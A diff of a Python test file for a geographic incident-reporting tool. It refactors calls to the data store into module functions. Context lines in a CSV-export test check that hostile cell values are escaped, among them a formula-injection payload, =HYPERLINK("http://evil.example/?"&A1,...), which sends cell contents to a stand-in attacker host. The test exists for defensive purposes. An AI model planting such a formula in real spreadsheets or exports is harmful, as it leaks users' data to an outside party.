@@ -23,7 +23,7 @@ from geo import services
 from geo.errors import LimitExceeded
 from geo.ingest import IngestLimits, IngestOptions
 from geo.maps import map_html, ward_map
-from geo.store import open_store
+from geo.store import batches, open_store, queries
 
 
 @pytest.fixture(scope="module")
@@ -48,7 +48,7 @@ def hostile(tmp_path_factory, wards):
 
 
 def _stored(store) -> pd.DataFrame:
-    return store.incidents(limit=None)
+    return queries.incidents(store, limit=None)
 
 
 # -- ingest and limits -------------------------------------------------------------------
@@ -193,7 +193,7 @@ def test_csv_export_neutralises_formulas(hostile):
     assert "'@SUM(A1:A9)" in addresses
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")' in addresses
     assert "<b>" + "B" * 100_000 + "</b>" in addresses  # not cut: CSV has no cell limit
-    audit = store.audit_log(1).iloc[0]
+    audit = queries.audit_log(store, 1).iloc[0]
     assert (audit["actor"], audit["action"]) == ("leader", "export")
 
 
@@ -257,7 +257,7 @@ def test_ward_report_draws_hostile_street_names_as_text(hostile, wards):
     ]
     # street names are not typed by field teams (they come from the street layer), so a
     # hostile one is stored directly, as a corrupted layer would
-    store.commit_batch(
+    batches.commit_batch(store,
         {"file_name": "streets.csv", "sha256": "f" * 64, "source": "hostile-streets"},
         incident_frame(rows, source="hostile-streets"),
         pd.DataFrame(columns=["incident_id", "to_status", "at", "note"]),
